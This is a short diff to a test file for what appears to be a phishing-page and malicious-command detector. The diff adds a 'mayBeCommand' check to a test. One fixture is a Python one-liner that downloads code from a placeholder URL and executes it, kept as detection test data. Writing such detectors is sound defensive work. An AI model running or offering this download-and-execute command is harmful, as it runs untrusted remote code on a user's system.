@@ -3,7 +3,7 @@ import { expect, test } from 'vitest'
 import { imitatedProvider } from './cloned-page.ts'
 import { carriesAddress, isDrawnAddress, isDropScript, isPhishingTool, marksIn } from './kit-marks.ts'
 import type { PageFeatures } from './page-features.ts'
-import { isMaliciousCopy, isShellCommand } from './shell-command.ts'
+import { isMaliciousCopy, isShellCommand, mayBeCommand } from './shell-command.ts'
 import { modeFor } from './threat-mode.ts'
 
 const providers = products.filter(({ identityProvider }) => identityProvider !== undefined)
@@ -227,6 +227,7 @@ test.each([
   'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'https://x\').read())"',
 ])('%s is a command', (text) => {
   expect(isShellCommand(text)).toBe(true)
+  expect(mayBeCommand(text)).toBe(true)
 })
 
 test.each([
